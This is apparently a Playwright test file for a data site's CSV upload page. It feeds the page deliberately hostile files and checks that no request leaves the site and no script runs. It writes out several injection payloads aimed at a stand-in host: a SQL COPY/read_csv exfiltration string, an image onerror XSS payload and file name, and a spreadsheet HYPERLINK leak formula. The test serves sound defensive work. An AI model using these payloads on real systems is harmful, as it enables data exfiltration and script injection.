import { chromium, expect, test, type Page } from '@playwright/test';
import { findBrowser } from './find.js';
import { laitExcerpt } from './lait-excerpt';
import { keptWhole, startSite } from './site';
import { choose, fileInput } from './upload-page';

const AWAY = 'http://elsewhere.example';
const SQL = `'); COPY x TO '${AWAY}/out.csv'; INSTALL httpfs; SELECT * FROM read_csv('${AWAY}/in.csv'); --`;
const MARKUP = `<img src="${AWAY}/pixel.png" onerror="globalThis.intruder = true">`;
const FORMULA = `=HYPERLINK("${AWAY}/?leak","Click")`;

/** LAIT's shape, its names replaced by what would call elsewhere if anything of a file were run. */
const hostile = laitExcerpt()
	.replaceAll('"LACDental%"', `"${SQL}"`)
	.replaceAll('"LACHealth%"', `"${MARKUP.replaceAll('"', '""')}"`)
	.replaceAll('"StayingPut"', `"${FORMULA.replaceAll('"', '""')}"`);

const table = `Area,${MARKUP.replaceAll(/"/g, "'")},${AWAY}/column\n${SQL.replaceAll(',', ' ')},1,2\n"${FORMULA.replaceAll('"', '""')}",3,4\n`;

/** Nothing of the file became an element, a link or a script. */
async function expectOnlyText(page: Page): Promise<void> {
	expect(await page.locator(`[src*="elsewhere"], [href*="elsewhere"]`).count()).toBe(0);
	expect(await page.evaluate(() => 'intruder' in globalThis)).toBe(false);
}

test('no journey asks any other address for anything, whatever a file holds', async ({ viewport }, {
	outputDir
}) => {
	const site = await startSite();
	const executablePath = findBrowser();
	const browser = await chromium.launch({
		...(executablePath === null ? {} : { executablePath }),
		args: [
			'--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE localhost',
			'--disable-background-networking',
			'--disable-component-update',
			'--no-first-run',
			...(process.getuid?.() === 0 ? ['--no-sandbox'] : [])
		]
	});
	const context = await browser.newContext({
		viewport,
		baseURL: site.address,
		locale: 'en-GB',
		serviceWorkers: 'allow'
	});
	const asked: { url: string; worker: boolean }[] = [];
	context.on('request', (request) =>
		asked.push({ url: request.url(), worker: request.serviceWorker() !== null })
	);
	const refused: string[] = [];
	const page = await context.newPage();
	page.on('console', (message) => {
		if (/Content Security Policy|Trusted/i.test(message.text())) refused.push(message.text());
	});

	await page.goto('/');
	await page.goto('/indicators/cla-offending');
	await expect(page.locator('.headline')).toBeVisible();
	await page.goto('/data/upload');
	await expect(fileInput(page)).toBeEnabled({ timeout: 60_000 });
	await choose(
		page,
		{ name: 'lait-2026-05-01.csv', text: hostile },
		{ name: `<img src=x onerror=alert(1)>.csv`, text: table }
	);
	await expect(page.getByRole('heading', { name: /^Review: lait/ })).toBeVisible({
		timeout: 60_000
	});
	await expect(page.getByRole('main')).toContainText('COPY x TO');
	await expectOnlyText(page);
	await page.getByRole('button', { name: 'Add this edition to what I see' }).click();
	await expect(page.getByRole('heading', { level: 2, name: /^Added: / })).toBeVisible({
		timeout: 60_000
	});
	await expectOnlyText(page);
	await page.goto('/data/ledger');
	await expect(page.getByRole('table', { name: /every figure held/ })).toBeVisible();
	await expectOnlyText(page);
	await keptWhole(page);
	await page.goto('/about/privacy');
	await expect(page.getByText('All of them went to the site’s own address.')).toBeVisible();
	await expect(page.getByText(/has asked the site\s+\d+\s+times/)).toBeVisible();

	const strays = asked.filter(
		({ url }) => !url.startsWith(site.address) && !/^(?:blob|data):/.test(url)
	);
	expect(strays).toEqual([]);
	expect(refused).toEqual([]);
	const by = (worker: boolean) => asked.filter((each) => each.worker === worker).length;
	expect(by(true), 'requests of the worker are seen too').toBeGreaterThan(100);
	console.log(
		`${asked.length} requests observed (${by(false)} of pages and their workers, ${by(true)} of the service worker), ${strays.length} to another address`
	);
	await page.screenshot({ path: `${outputDir}/privacy.png`, fullPage: true });
	await browser.close();
	site.end();
});
